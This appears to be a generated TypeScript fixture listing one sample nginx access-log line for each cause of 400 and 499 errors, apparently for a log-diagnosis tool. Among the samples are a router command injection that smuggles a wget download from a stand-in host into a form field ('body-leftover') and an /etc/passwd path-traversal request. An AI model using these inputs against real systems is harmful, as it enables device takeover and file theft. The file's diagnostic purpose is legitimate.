// Made by `npm run docs` from fixtures/causes; do not edit.
import type { CauseId } from '../../judge/catalogue.ts';

/** A log line of each cause, as nginx writes it. */
export const EXAMPLES: Readonly<Record<CauseId, string>> = {
  'unused-connection':
    '203.0.113.18 - - [23/Apr/2012:19:04:16 -0500] "-" 400 0 "-" "-"',
  'spare-closed-after-error':
    '198.51.100.140 - - [14/Apr/2013:10:02:51 +0200] "-" 400 0 "-" "-"',
  'tls-handshake-failed':
    '198.51.100.24 - - [02/Feb/2013:08:15:00 +0100] "-" 400 0 "-" "-" rt=0.041 urt=- us=-',
  'tcp-health-check':
    '192.0.2.4 - - [08/Mar/2011:21:00:04 +0900] "-" 400 0 "-" "-"',
  'request-cut-short':
    '198.51.100.120 - - [17/Mar/2025:12:01:20 +0000] "GET /catalogue/fer" 400 0 "-" "-"',
  'upload-cut-short':
    '198.51.100.12 - - [02/Nov/2024:18:21:16 +0530] "POST /memories/photos HTTP/1.1" 400 0 "https://album.example.com/memories/diwali" "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1" rt=9.412 urt=- us=-',
  stopped:
    '203.0.113.15 - - [11/May/2021:14:02:31 -0300] "GET /collection/map?period=1890-1920 HTTP/1.1" 499 0 "https://museum.example.org/collection/" "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:88.0) Gecko/20100101 Firefox/88.0"',
  'navigated-away':
    '198.51.100.50 - - [18/Feb/2023:09:14:08 +0100] "GET /trails/north HTTP/2.0" 499 0 "https://trails.example.com/trails/" "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/110.0.0.0 Safari/537.36" rt=1.912 urt=1.912 us=-',
  retried:
    '198.51.100.61 - - [03/Jun/2017:19:00:48 +0200] "GET /tickets/evening HTTP/1.1" 499 0 "https://tickets.example.org/tickets/" "Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:52.0) Gecko/20100101 Firefox/52.0"',
  superseded:
    '203.0.113.7 - - [09/Apr/2026:17:20:09 -0800] "GET /api/suggest?q=q HTTP/2.0" 499 0 "https://atlas.example.com/find" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/146.0.0.0 Safari/537.36" rt=0.204 urt=0.204 us=-',
  'media-seek':
    '198.51.100.31 - - [30/Jun/2024:20:15:28 +1000] "GET /media/orion.mp4 HTTP/1.1" 499 0 "https://talks.example.org/talks/orion.html" "AppleCoreMedia/1.0.0.21F90 (iPhone; U; CPU OS 17_5_1 like Mac OS X; en_gb)"',
  'fire-and-forget':
    '192.0.2.10 - - [08/Jan/2019:06:00:02 +0300] "POST /wp-cron.php?doing_wp_cron=1546916401.5512340068817138671875 HTTP/1.1" 499 0 "https://news.example.org/wp-cron.php?doing_wp_cron=1546916401.5512340068817138671875" "WordPress/5.0.2; https://news.example.org" rt=1.001 urt=1.001 us=-',
  'long-poll-closed':
    '203.0.113.12 - - [14/Sep/2022:18:04:23 +0000] "GET /chat/poll?since=104 HTTP/1.1" 499 0 "https://village.example.org/chat" "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:104.0) Gecko/20100101 Firefox/104.0"',
  'bot-gave-up':
    '192.0.2.140 - - [05/Dec/2024:02:14:10 +0800] "GET /archive/1962/07 HTTP/1.1" 499 0 "-" "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.69 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"',
  'half-close':
    '192.0.2.33 - - [21/Aug/2023:05:00:00 +0000] "GET /reading/7 HTTP/1.0" 499 0 "-" "-" rt=0.003 urt=0.003 us=-',
  'cookie-or-header-too-large':
    '198.51.100.8 - - [12/Mar/2012:19:40:00 -0400] "GET /soups/leek HTTP/1.1" 400 242 "http://recipes.example.com/soups/" "Mozilla/5.0 (Windows NT 6.1; rv:10.0.2) Gecko/20100101 Firefox/10.0.2"',
  'invalid-header':
    '203.0.113.2 - - [20/May/2026:06:30:00 +0200] "GET / HTTP/1.1" 400 157 "-" "-"',
  'client-timeout':
    '192.0.2.60 - - [20/Nov/2023:08:00:25 +0000] "POST /v2/sync HTTP/1.1" 499 0 "-" "okhttp/4.12.0" rt=10.001 urt=10.001 us=-',
  'balancer-timeout':
    '192.0.2.29 - - [07/Feb/2022:09:50:00 +0100] "POST /reports/send HTTP/1.1" 499 0 "https://reports.example.org/reports/" "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:96.0) Gecko/20100101 Firefox/96.0" rt=30.002 urt=30.002 us=- xff="198.51.100.77"',
  'monitor-timeout':
    '192.0.2.151 - - [15/Apr/2024:06:00:12 +0200] "HEAD / HTTP/1.1" 499 0 "-" "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"',
  'slow-upstream':
    '198.51.100.61 - - [14/Jul/2023:10:00:02 -0400] "GET /seats/11 HTTP/1.1" 499 0 "https://arena.example.com/" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/114.0.0.0 Safari/537.36" "-"',
  'held-by-nginx':
    '198.51.100.60 - - [09/Oct/2024:12:50:02 +0100] "GET /brand/site.js HTTP/1.1" 499 0 "https://files.example.org/" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36" rt=1.318 urt=- us=-',
  'tls-to-plain-port':
    '192.0.2.80 - - [12/Jun/2025:15:00:10 +0000] "\\x16\\x03\\x01\\x00\\x8A\\x01\\x00\\x00\\x86\\x03\\x03\\x96\\xDA3\\xEA\\xF9\\x8C\\xEE]y\\x0E\\xAB\\x828\\x9C:\\xECK~\\xB3\\xCA8V\\xFAr\\x14C3+\\x18s\\xC7\\x8B _3z\\xCBU?\\xA5\\xCCin7\\x12pyO8\\x1E\\xA8\\xD4\\xA1\\xB0V\\xAC\\xDD\\xE3Fg\\xCAc<n\\x15\\x00\\x12\\x13\\x01\\x13\\x02\\x13\\x03\\xC0+\\xC0/\\xC0,\\xC00\\xCC\\xA9\\xCC\\xA8\\x01\\x00\\x00+\\x00\\x00\\x00\\x14\\x00\\x12\\x00\\x00\\x0Fwww.example.com\\x00\\x10\\x00\\x0B\\x00\\x09\\x08http/1.1\\x00\\x17\\x00\\x00" 400 157 "-" "-"',
  'plain-http-to-tls-port':
    '192.0.2.92 - - [09/Jul/2018:10:20:50 +0200] "GET /rates.json HTTP/1.1" 400 280 "-" "curl/7.58.0"',
  'http2-to-http1-port':
    '192.0.2.101 - - [19/Aug/2024:16:00:00 +0530] "PRI * HTTP/2.0" 400 157 "-" "-"',
  'proxy-protocol-mismatch':
    '192.0.2.20 - - [10/Feb/2025:22:00:05 +0000] "PROXY TCP4 203.0.113.9 192.0.2.21 51234 80" 400 150 "-" "-"',
  'client-certificate-missing':
    '192.0.2.56 - - [30/Oct/2023:09:20:00 +0100] "POST /v1/orders HTTP/1.1" 400 237 "-" "Java/11.0.20"',
  'client-certificate-invalid':
    '192.0.2.69 - - [28/Feb/2021:23:40:00 +0000] "POST /telemetry/6 HTTP/1.1" 400 224 "-" "python-urllib3/1.26.3"',
  'invalid-request-line':
    '203.0.113.17 - - [02/May/2023:13:00:00 -0700] "get / HTTP/1.1" 400 157 "-" "-"',
  'invalid-body':
    '192.0.2.115 - - [04/Apr/2025:09:30:00 +0200] "POST /receipts HTTP/1.1" 400 1120 "https://tills.example.com/" "Mozilla/5.0 (X11; Linux x86_64; rv:137.0) Gecko/20100101 Firefox/137.0" rt=1.310 urt=- us=-',
  'invalid-http2-request':
    '192.0.2.130 - - [01/Jun/2026:09:58:00 +0900] "-" 400 157 "-" "h2load nghttp2/1.64.0"',
  'body-leftover':
    '203.0.113.23 - - [07/Sep/2023:04:00:00 +0000] "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`wget+http://192.0.2.66/gpon80`&ipv=0" 400 157 "-" "-"',
  'blank-request':
    '203.0.113.26 - - [25/Jan/2024:17:00:04 +0300] "" 400 0 "-" "-"',
  'foreign-protocol':
    '203.0.113.30 - - [18/Sep/2025:01:00:00 +0800] "\\x03\\x00\\x00/*\\xE0\\x00\\x00\\x00\\x00\\x00Cookie: mstshash=Administr" 400 166 "-" "-"',
  'open-proxy-probe':
    '203.0.113.40 - - [28/Mar/2023:03:00:00 +0200] "CONNECT check.example.com:443 HTTP/1.1" 400 157 "-" "-"',
  'path-traversal':
    '203.0.113.50 - - [18/Dec/2024:02:00:00 +0100] "GET /../../../../etc/passwd HTTP/1.1" 400 150 "-" "-"',
  'port-scan':
    '203.0.113.240 - - [19/Jan/2012:03:12:59 -0300] "-" 400 0 "-" "-"',
  'application-400':
    '192.0.2.160 - - [04/Oct/2021:11:00:31 +0000] "POST /api/bookings HTTP/1.1" 400 61 "-" "okhttp/4.9.1"',
  'application-499':
    '198.51.100.81 - - [22/Jan/2025:09:00:12 +0900] "POST /api/hold HTTP/1.1" 499 54 "https://clinic.example.com/" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36" rt=0.104 urt=0.104 us=499',
  'configured-response':
    '198.51.100.170 - - [27/May/2024:09:00:04 -0600] "GET /v1/book HTTP/2.0" 400 157 "https://canoe.example.org/" "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:126.0) Gecko/20100101 Firefox/126.0"',
  unexplained:
    '192.0.2.183 - - [03/Apr/2025:14:20:00 +0000] "GET /apples HTTP/1.1" 400 1187 "-" "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.3 Safari/605.1.15"',
};
